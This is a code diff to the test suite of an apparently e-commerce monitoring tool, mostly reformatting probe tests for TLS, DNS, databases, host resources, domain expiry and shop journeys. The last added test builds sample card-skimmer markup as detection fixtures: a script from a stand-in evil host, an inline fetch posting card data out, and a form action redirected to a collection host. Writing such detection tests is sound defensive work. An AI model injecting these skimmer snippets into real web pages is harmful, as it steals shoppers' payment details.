@@ -137,7 +137,9 @@ def _self_signed(tmp: Path, days: int) -> tuple[Path, Path]:
     cp, kp = tmp / f"c{days}.pem", tmp / f"k{days}.pem"
     cp.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
     kp.write_bytes(
-        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+        key.private_bytes(
+            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+        )
     )
     return cp, kp
 
@@ -157,8 +159,12 @@ async def test_tls_expiry_and_trust(tmp_path: Path, ctx: ProbeContext) -> None:
     cert, key = _self_signed(tmp_path, 10)
     srv, port = await _tls_server(cert, key)
     async with srv:
-        soon = await run(TlsMonitor(name="m", host="127.0.0.1", server_name="localhost", port=port, verify=False), ctx)
-        assert soon.status is Status.DOWN and "expires in" in soon.message and 9 <= soon.data["days_left"] <= 10
+        soon = await run(
+            TlsMonitor(name="m", host="127.0.0.1", server_name="localhost", port=port, verify=False), ctx
+        )
+        assert (
+            soon.status is Status.DOWN and "expires in" in soon.message and 9 <= soon.data["days_left"] <= 10
+        )
         untrusted = await run(TlsMonitor(name="m", host="127.0.0.1", server_name="localhost", port=port), ctx)
         assert untrusted.status is Status.DOWN and "not trusted" in untrusted.message
     cert, key = _self_signed(tmp_path, 90)
@@ -207,7 +213,10 @@ async def test_dns_expected_answer_mismatch_nxdomain_and_dead_server(ctx: ProbeC
     finally:
         transport.close()
     dead = await run(
-        DnsMonitor(name="m", record="shop.test", nameserver="127.0.0.1", nameserver_port=free_port(), timeout_s=0.5), ctx
+        DnsMonitor(
+            name="m", record="shop.test", nameserver="127.0.0.1", nameserver_port=free_port(), timeout_s=0.5
+        ),
+        ctx,
     )
     assert dead.status is Status.DOWN
 
@@ -216,32 +225,50 @@ async def test_dns_expected_answer_mismatch_nxdomain_and_dead_server(ctx: ProbeC
 
 
 async def test_mysql_postgres_redis_real_servers(ctx: ProbeContext) -> None:
-    my = await run(DatabaseMonitor(name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", query="SELECT 41+1"), ctx)
+    my = await run(
+        DatabaseMonitor(name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", query="SELECT 41+1"),
+        ctx,
+    )
     assert my.status is Status.UP and my.data["result"] == "42", my.message
-    pg = await run(DatabaseMonitor(name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test"), ctx)
+    pg = await run(
+        DatabaseMonitor(name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test"), ctx
+    )
     assert pg.status is Status.UP, pg.message
     bad_q = await run(
-        DatabaseMonitor(name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test", query="SELECT nope"),
+        DatabaseMonitor(
+            name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test", query="SELECT nope"
+        ),
         ctx,
     )
     assert bad_q.status is Status.DOWN and "nope" in bad_q.message
-    closed = await run(DatabaseMonitor(name="m", kind="mysql", dsn=f"mysql://root@127.0.0.1:{free_port()}/test"), ctx)
+    closed = await run(
+        DatabaseMonitor(name="m", kind="mysql", dsn=f"mysql://root@127.0.0.1:{free_port()}/test"), ctx
+    )
     assert closed.status is Status.DOWN
     with pytest.raises(ConfigProblem, match="not a replica"):
         await run(
-            DatabaseMonitor(name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", max_replication_lag_s=30), ctx
+            DatabaseMonitor(
+                name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", max_replication_lag_s=30
+            ),
+            ctx,
         )
     with pytest.raises(ConfigProblem, match="not a replica"):
         await run(
             DatabaseMonitor(
-                name="m", kind="postgres", dsn="postgresql://postgres@127.0.0.1:5432/test", max_replication_lag_s=30
+                name="m",
+                kind="postgres",
+                dsn="postgresql://postgres@127.0.0.1:5432/test",
+                max_replication_lag_s=30,
             ),
             ctx,
         )
     with pytest.raises(ConfigProblem, match="SHOPGUARD_TEST_UNSET"):
         await run(
             DatabaseMonitor(
-                name="m", kind="mysql", dsn="mysql://root@127.0.0.1:3306/test", password={"env": "SHOPGUARD_TEST_UNSET"}
+                name="m",
+                kind="mysql",
+                dsn="mysql://root@127.0.0.1:3306/test",
+                password={"env": "SHOPGUARD_TEST_UNSET"},
             ),
             ctx,
         )
@@ -255,12 +282,25 @@ async def test_mysql_postgres_redis_real_servers(ctx: ProbeContext) -> None:
 
 
 async def test_host_resources(ctx: ProbeContext) -> None:
-    fine = await run(HostMonitor(name="m", max_cpu_percent=100, max_load_per_cpu=1000, max_disk_percent=100, max_memory_percent=100, max_inode_percent=100, max_swap_percent=100), ctx)
+    fine = await run(
+        HostMonitor(
+            name="m",
+            max_cpu_percent=100,
+            max_load_per_cpu=1000,
+            max_disk_percent=100,
+            max_memory_percent=100,
+            max_inode_percent=100,
+            max_swap_percent=100,
+        ),
+        ctx,
+    )
     assert fine.status is Status.UP and "/" in fine.data["mounts"]
     assert 0 <= fine.data["mounts"]["/"]["inode_percent"] <= 100
     full = await run(HostMonitor(name="m", max_disk_percent=0.0001, mounts=("/",)), ctx)
     assert full.status is Status.DOWN and "disk / " in full.message
-    gone = await run(HostMonitor(name="m", processes=("python", "no-such-daemon-xyz"), max_disk_percent=100), ctx)
+    gone = await run(
+        HostMonitor(name="m", processes=("python", "no-such-daemon-xyz"), max_disk_percent=100), ctx
+    )
     assert gone.status is Status.DOWN and "process no-such-daemon-xyz is not running" in gone.message
     assert "python" not in gone.data["processes_missing"]
 
@@ -313,20 +353,32 @@ def _rdap_server(days: int) -> tuple[ThreadingHTTPServer, int]:
 
 
 async def test_domain_expiry_rdap(ctx: ProbeContext) -> None:
-    unreachable = await run(DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{free_port()}/"), ctx)
-    assert unreachable.status is Status.SKIPPED and "RDAP service" in unreachable.message and "registrar" in unreachable.message
+    unreachable = await run(
+        DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{free_port()}/"), ctx
+    )
+    assert (
+        unreachable.status is Status.SKIPPED
+        and "RDAP service" in unreachable.message
+        and "registrar" in unreachable.message
+    )
     srv, port = _rdap_server(10)
     try:
-        soon = await run(DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx)
+        soon = await run(
+            DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
+        )
         assert soon.status is Status.DOWN and "expires in" in soon.message
-        unknown = await run(DomainMonitor(name="d", domain="other.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx)
+        unknown = await run(
+            DomainMonitor(name="d", domain="other.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
+        )
         assert unknown.status is Status.SKIPPED
     finally:
         srv.shutdown()
         srv.server_close()
     srv, port = _rdap_server(300)
     try:
-        fine = await run(DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx)
+        fine = await run(
+            DomainMonitor(name="d", domain="example-shop.test", rdap_base=f"http://127.0.0.1:{port}/"), ctx
+        )
         assert fine.status is Status.UP
     finally:
         srv.shutdown()
@@ -407,8 +459,20 @@ async def test_journey(ctx: ProbeContext) -> None:
         srv.server_close()
     srv, base = _shop(broken_basket=True)
     try:
-        bad = await run(spec.model_copy(update={"home_url": base + "/", "product_url": base + "/p/mug", "add_to_basket_url": base + "/cart/add", "basket_url": base + "/basket"}), ctx)
-        assert bad.status is Status.DOWN and bad.message.startswith("basket page") and "HTTP 500" in bad.message
+        bad = await run(
+            spec.model_copy(
+                update={
+                    "home_url": base + "/",
+                    "product_url": base + "/p/mug",
+                    "add_to_basket_url": base + "/cart/add",
+                    "basket_url": base + "/basket",
+                }
+            ),
+            ctx,
+        )
+        assert (
+            bad.status is Status.DOWN and bad.message.startswith("basket page") and "HTTP 500" in bad.message
+        )
     finally:
         srv.shutdown()
         srv.server_close()
@@ -417,3 +481,22 @@ async def test_journey(ctx: ProbeContext) -> None:
 def test_free_port_is_loopback() -> None:
     with socket.socket() as s:
         s.bind(("127.0.0.1", free_port()))
+
+
+def test_page_shape_ignores_tokens_but_sees_skimmers() -> None:
+    from shopguard.monitoring.probes.http import page_shape
+
+    a = (
+        '<form action="/pay?t=1"><input name="csrf" value="x1"></form>'
+        '<script src="/app.js?v=1"></script><script>var t="abc"</script>'
+    )
+    b = (
+        '<form action="/pay?t=2"><input name="csrf" value="y2"></form>'
+        '<script src="/app.js?v=2"></script><script>var t="def"</script>'
+    )
+    assert page_shape(a) == page_shape(b)
+    skim = b + '<script src="https://cdn.evil.example/jquery.min.js"></script>'
+    assert page_shape(skim) != page_shape(b) and "cdn.evil.example" in page_shape(skim)
+    inline = b + "<script>fetch('//x.example',{method:'POST',body:card})</script>"
+    assert page_shape(inline) != page_shape(b)
+    assert page_shape(b.replace('action="/pay', 'action="https://collect.example/pay')) != page_shape(b)
